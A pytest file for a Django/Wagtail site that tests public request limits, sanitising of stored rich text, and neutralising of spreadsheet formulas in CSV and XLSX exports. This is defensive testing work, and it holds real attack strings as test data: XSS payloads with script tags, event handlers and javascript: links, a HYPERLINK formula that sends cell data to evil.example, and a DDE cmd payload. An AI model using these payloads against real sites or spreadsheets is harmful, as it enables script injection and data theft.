"""Hostile input: oversized and overstuffed public requests, unsafe rich text, spreadsheet formulas."""

import io

from django.conf import settings
from django.test import Client

import openpyxl
import pytest

from core import exports
from tests.factories import FAQFactory, add_page, story_index, story_page
from website.security.html import clean_html
from website.security.spreadsheets import neutralise_cell, neutralise_csv_stream

# Request limits ----------------------------------------------------------------------------------

FORM = "application/x-www-form-urlencoded"


def fields(count: int) -> str:
    return "&".join(f"field{number}=x" for number in range(count))


def assert_plain_refusal(response, status: int, heading: str):
    assert response.status_code == status
    page = response.content.decode()
    assert heading in page
    assert "Use your browser's back button" in page
    assert "Traceback" not in page
    assert "'unsafe-inline'" not in response["Content-Security-Policy"]


@pytest.fixture
def enquiry_url(home_page):
    from website.models import EnquiryPage

    return add_page(home_page, EnquiryPage, title="Ask us about adopting", slug="enquire").url


def test_a_public_post_over_the_size_limit_gets_a_plain_413(enquiry_url):
    body = "message=" + "x" * (settings.PUBLIC_REQUEST_MAX_BYTES + 1)
    response = Client().post(enquiry_url, body, content_type=FORM)
    assert_plain_refusal(response, 413, "What you sent was too long")


def test_a_public_post_with_too_many_fields_gets_a_plain_400(enquiry_url):
    # Far below Wagtail's raised global limit (DATA_UPLOAD_MAX_NUMBER_FIELDS), which stays for the editor.
    assert settings.DATA_UPLOAD_MAX_NUMBER_FIELDS >= 10_000
    response = Client().post(enquiry_url, fields(settings.PUBLIC_REQUEST_MAX_FIELDS + 1), content_type=FORM)
    assert_plain_refusal(response, 400, "We could not read that form")
    # Multipart posts are counted the same way.
    data = {f"field{number}": "x" for number in range(settings.PUBLIC_REQUEST_MAX_FIELDS + 1)}
    assert Client().post(enquiry_url, data).status_code == 400
    # So are query strings.
    response = Client().get("/search/?" + fields(settings.PUBLIC_REQUEST_MAX_FIELDS + 1))
    assert_plain_refusal(response, 400, "We could not read that form")


def test_a_public_post_within_the_limits_reaches_the_form(enquiry_url):
    response = Client().post(
        enquiry_url,
        fields(settings.PUBLIC_REQUEST_MAX_FIELDS - 1),
        content_type=FORM,
        headers={"Origin": "http://testserver"},
    )
    assert response.status_code not in (400, 413, 500)
    assert "We could not read that form" not in response.content.decode()


def test_the_admin_sign_in_page_has_the_public_limits_but_the_page_editor_does_not(editor, home_page):
    response = Client().post("/admin/login/", fields(500), content_type=FORM)
    assert response.status_code == 400
    client = Client()
    client.force_login(editor)
    # A signed-in editor's posts (a page with hundreds of fields) pass to Wagtail, whose own limit applies:
    # the dashboard answers that it takes no posts at all, rather than refusing the size.
    response = client.post("/admin/", fields(500), content_type=FORM)
    assert response.status_code == 405


def test_the_email_door_has_room_for_whole_emails(home_page):
    limits = settings.PUBLIC_REQUEST_LIMITS_BY_PATH["/anymail/"]
    assert limits["max_bytes"] >= 10 * 1024 * 1024
    body = "body-plain=" + "x" * (settings.PUBLIC_REQUEST_MAX_BYTES * 2)
    response = Client().post("/anymail/mailgun/inbound/", body, content_type=FORM)
    assert response.status_code != 413


# Rich text ---------------------------------------------------------------------------------------

HOSTILE = (
    '<p>Hello <script>alert("x")</script><img src="x" onerror="alert(1)">'
    '<a href="javascript:alert(2)">click</a> <b style="color:red" onclick="alert(3)">bold</b>'
    '<iframe src="https://evil.example/"></iframe><a href="/about/">ok</a></p>'
)


def assert_clean(html: str):
    lowered = html.lower()
    for bad in ("<script", "alert(", "onerror", "onclick", "javascript:", "<iframe", 'style="color'):
        assert bad not in lowered, bad


def test_clean_html_keeps_plain_markup_only():
    cleaned = clean_html(HOSTILE)
    assert_clean(cleaned)
    assert '<a href="/about/">ok</a>' in cleaned
    assert "<b>bold</b>" in cleaned
    assert clean_html(None) == ""


def test_a_story_body_saved_straight_to_the_database_is_shown_clean(home_page):
    story = story_page(story_index(home_page), title="A story", body=[("paragraph", HOSTILE)])
    html = Client().get(story.url).content.decode()
    assert "Hello" in html and "bold" in html
    assert_clean(html.split("<main", 1)[1])


def test_a_standard_page_and_a_faq_answer_are_shown_clean(home_page):
    from website.models import FAQPage, StandardPage

    page = add_page(home_page, StandardPage, title="About", slug="about", body=[("paragraph", HOSTILE)])
    html = Client().get(page.url).content.decode()
    assert "bold" in html
    assert_clean(html.split("<main", 1)[1])

    FAQFactory(question="Can I adopt?", answer=HOSTILE)
    faqs = add_page(home_page, FAQPage, title="Questions", slug="faqs")
    html = Client().get(faqs.url).content.decode()
    assert "Can I adopt?" in html
    assert_clean(html.split("<main", 1)[1])


def test_rich_text_posted_through_the_admin_editor_is_shown_clean(editor, home_page):
    """Draftail posts its content as JSON; even a link to javascript: typed into it does not survive."""
    import json

    from website.models import StandardPage

    page = add_page(home_page, StandardPage, title="About", slug="about")
    client = Client()
    client.force_login(editor)
    form = client.get(f"/admin/pages/{page.pk}/edit/")
    assert form.status_code == 200
    contentstate = {
        "blocks": [
            {
                "key": "a1",
                "type": "unstyled",
                "text": "Hello click <script>alert(1)</script>",
                "depth": 0,
                "inlineStyleRanges": [],
                "entityRanges": [{"offset": 6, "length": 5, "key": 0}],
                "data": {},
            }
        ],
        "entityMap": {"0": {"type": "LINK", "mutability": "MUTABLE", "data": {"url": "javascript:alert(2)"}}},
    }
    data = {
        "title": "About",
        "slug": "about",
        "body-count": "1",
        "body-0-type": "paragraph",
        "body-0-deleted": "",
        "body-0-order": "0",
        "body-0-id": "b1",
        "body-0-value": json.dumps(contentstate),
        "action-publish": "publish",
    }
    response = client.post(f"/admin/pages/{page.pk}/edit/", data)
    assert response.status_code == 302, response.content.decode()[:3000]
    main = Client().get(page.url).content.decode().split("<main", 1)[1]
    assert "Hello" in main
    # What was typed is text, shown escaped; the link to javascript: is gone.
    assert "&lt;script&gt;" in main
    assert "<script" not in main and "javascript:" not in main


# Spreadsheets ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        (
            '=HYPERLINK("https://evil.example/?"&A1,"Click")',
            '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
        ),
        ("+1+cmd", "'+1+cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),
        ("+44", "+44"),
        ("Alex Morgan", "Alex Morgan"),
        ("'=already", "'=already"),
        (42, 42),
        (None, None),
    ],
)
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


def test_a_csv_stream_is_neutralised_across_chunk_and_line_boundaries():
    source = b'name,note\r\n=1+2,"two\r\nlines, =3"\r\nAlex,@x\r\n'
    chunks = [source[index : index + 3] for index in range(0, len(source), 3)]
    out = b"".join(neutralise_csv_stream(chunks)).decode()
    assert out == "name,note\r\n'=1+2,\"two\r\nlines, =3\"\r\nAlex,'@x\r\n"


def test_wagtail_report_exports_in_the_admin_are_neutralised(editor, home_page):
    from website.models import StandardPage

    add_page(home_page, StandardPage, title='=HYPERLINK("https://evil.example/","Open")', slug="evil")
    client = Client()
    client.force_login(editor)
    response = client.get("/admin/reports/aging-pages/?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    assert "'=HYPERLINK" in body
    assert "\n=HYPERLINK" not in body and ",=HYPERLINK" not in body


def test_xlsx_downloads_hold_text_not_formulas():
    sheet = exports.Sheet("People", ["Name", "Note"], [["=1+2", "@SUM(A1)"], ["Alex", -12.5]])
    book = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes([sheet])))
    cells = list(book.active.iter_rows(min_row=2, values_only=True))
    assert cells[0] == ("'=1+2", "'@SUM(A1)")
    assert cells[1] == ("Alex", -12.5)
    assert all(cell.data_type != "f" for row in book.active.iter_rows() for cell in row)
